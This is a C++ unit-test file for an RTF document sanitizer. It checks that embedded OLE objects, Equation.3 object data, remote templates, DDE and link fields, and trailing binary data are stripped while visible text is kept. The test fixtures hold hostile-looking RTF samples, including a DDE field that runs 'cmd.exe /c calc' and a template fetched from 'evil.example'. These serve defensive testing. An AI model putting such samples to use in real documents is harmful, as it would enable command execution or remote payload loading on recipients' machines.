// RTF sanitizer: outputs are re-tokenized here (a brace counter that knows
// escapes and \binN), independently of the sanitizer.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "sanitize/sanitize.h"

namespace mamori::sanitize {
namespace {

// True when the braces balance and the document ends with its root group.
bool Balanced(const std::string& rtf) {
  long depth = 0;
  for (std::size_t i = 0; i < rtf.size(); ++i) {
    const char c = rtf[i];
    if (c == '\\') {
      if (rtf.compare(i, 4, "\\bin") == 0) {
        std::size_t j = i + 4;
        std::size_t length = 0;
        while (j < rtf.size() && rtf[j] >= '0' && rtf[j] <= '9') {
          length = length * 10 + static_cast<std::size_t>(rtf[j] - '0');
          ++j;
        }
        if (j < rtf.size() && rtf[j] == ' ') ++j;
        i = j + length - 1;
        continue;
      }
      ++i;  // an escaped character
      continue;
    }
    if (c == '{') ++depth;
    if (c == '}' && --depth < 0) return false;
    if (depth == 0 && i + 1 < rtf.size()) return false;
  }
  return depth == 0;
}

bool Removed(const Outcome& outcome, const std::string& what) {
  return std::any_of(outcome.report.removed.begin(), outcome.report.removed.end(),
                     [&](const Removal& removal) { return removal.what == what; });
}

bool Contains(const std::string& text, const std::string& needle) {
  return text.find(needle) != std::string::npos;
}

TEST(RtfSanitizeTest, OleObjectIsRemovedAndItsPictureKept) {
  const std::string rtf =
      "{\\rtf1\\ansi{\\fonttbl{\\f0 MS Mincho;}}\\f0 before "
      "{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 01050000020000000b"
      "000000457175617469 6f6e2e3300}{\\result{\\pict\\wmetafile8 0100}}}"
      " after {\\*\\datastore 0105000002}{\\*\\template http://evil.example/t.dotm}"
      "{\\*\\unknownthing 4d5a90}{\\*\\generator Word}}";
  const Outcome outcome = Sanitize(rtf, "doc.rtf", Settings{});
  ASSERT_EQ(outcome.report.detected, FileType::kRtf);
  ASSERT_EQ(outcome.report.verdict, Verdict::kSanitized) << outcome.report.detail;
  const std::string& out = outcome.output;
  EXPECT_TRUE(Balanced(out)) << out;
  EXPECT_FALSE(Contains(out, "\\objdata"));
  EXPECT_FALSE(Contains(out, "\\object"));
  EXPECT_FALSE(Contains(out, "objupdate"));
  EXPECT_FALSE(Contains(out, "Equation"));
  EXPECT_FALSE(Contains(out, "datastore"));
  EXPECT_FALSE(Contains(out, "evil.example"));
  EXPECT_FALSE(Contains(out, "4d5a90"));
  EXPECT_TRUE(Contains(out, "{{\\pict\\wmetafile8 0100}}"));
  EXPECT_TRUE(Contains(out, "before"));
  EXPECT_TRUE(Contains(out, "after"));
  EXPECT_TRUE(Contains(out, "{\\*\\generator Word}"));
  EXPECT_TRUE(Removed(outcome, "ole_object"));
  EXPECT_TRUE(Removed(outcome, "datastore"));
  EXPECT_TRUE(Removed(outcome, "remote_template"));
  EXPECT_TRUE(Removed(outcome, "unknown_destination"));
  // The output is stable: sanitizing it again removes nothing.
  const Outcome again = Sanitize(out, "doc.rtf", Settings{});
  EXPECT_EQ(again.report.verdict, Verdict::kClean);
  EXPECT_EQ(again.output, out);
}

TEST(RtfSanitizeTest, DdeAndLinkFieldsKeepOnlyTheirResult) {
  const std::string rtf =
      "{\\rtf1 {\\field{\\*\\fldinst {\\rtlch DDE\\'41UTO c:\\\\\\\\windows\\\\\\\\cmd.exe \"/c calc\"}}"
      "{\\fldrslt {shown-result}}}"
      "{\\field{\\*\\fldinst{ INCLUDEPICTURE \"http://x/y.png\" }}{\\fldrslt pic}}"
      "{\\field{\\*\\fldinst{\\field{\\*\\fldinst QUOTE 68}}{ \"x\"}}{\\fldrslt computed}}"
      "{\\field{\\*\\fldinst{ HYPERLINK \"http://example.com\" }}{\\fldrslt link}}}";
  const Outcome outcome = Sanitize(rtf, "f.rtf", Settings{});
  ASSERT_NE(outcome.report.verdict, Verdict::kRefused) << outcome.report.detail;
  const std::string& out = outcome.output;
  EXPECT_TRUE(Balanced(out)) << out;
  EXPECT_FALSE(Contains(out, "DDE"));
  EXPECT_FALSE(Contains(out, "cmd.exe"));
  EXPECT_FALSE(Contains(out, "INCLUDEPICTURE"));
  EXPECT_FALSE(Contains(out, "QUOTE"));
  EXPECT_TRUE(Contains(out, "shown-result"));
  EXPECT_TRUE(Contains(out, "pic"));
  EXPECT_TRUE(Contains(out, "computed"));
  EXPECT_TRUE(Contains(out, "HYPERLINK"));
  EXPECT_TRUE(Removed(outcome, "dde_field"));
  EXPECT_TRUE(Removed(outcome, "link_field"));
  EXPECT_TRUE(Removed(outcome, "computed_field"));
}

TEST(RtfSanitizeTest, BinaryDataTrailingBytesAndRepairs) {
  // \bin bytes may hold braces; they must not count as groups.
  const std::string rtf = std::string("{\\rtf1 {\\pict\\bin4 }}{{}x}") + "}" + "MZ-payload";
  const Outcome outcome = Sanitize(rtf, "b.rtf", Settings{});
  ASSERT_NE(outcome.report.verdict, Verdict::kRefused) << outcome.report.detail;
  EXPECT_TRUE(Balanced(outcome.output)) << outcome.output;
  EXPECT_FALSE(Contains(outcome.output, "MZ-payload"));
  EXPECT_TRUE(Removed(outcome, "trailing_data"));

  const Outcome open = Sanitize("{\\rtf1 {\\b bold", "o.rtf", Settings{});
  ASSERT_NE(open.report.verdict, Verdict::kRefused);
  EXPECT_EQ(open.output, "{\\rtf1 {\\b bold}}");

  EXPECT_EQ(Sanitize("{\\rtf1 " + std::string(2000, '{'), "d.rtf", Settings{}).report.reason,
            Reason::kMalformed);
  EXPECT_EQ(Sanitize("{\\rtf1 " + std::string(100, '{') + "x", "u.rtf", Settings{}).report.reason,
            Reason::kMalformed);
  EXPECT_EQ(Sanitize("{\\rtf1 \\bin999999 ab}", "l.rtf", Settings{}).report.reason,
            Reason::kMalformed);
}

TEST(RtfSanitizeTest, ObjdataHiddenMidGroupIsRemoved) {
  const std::string rtf = "{\\rtf1 text{\\b bold\\objdata 01050000}{\\pict{\\*\\objdata 0105}}}";
  const Outcome outcome = Sanitize(rtf, "h.rtf", Settings{});
  ASSERT_NE(outcome.report.verdict, Verdict::kRefused) << outcome.report.detail;
  EXPECT_TRUE(Balanced(outcome.output)) << outcome.output;
  EXPECT_FALSE(Contains(outcome.output, "objdata"));
  EXPECT_FALSE(Contains(outcome.output, "0105"));
  EXPECT_TRUE(Contains(outcome.output, "bold"));
}

}  // namespace
}  // namespace mamori::sanitize
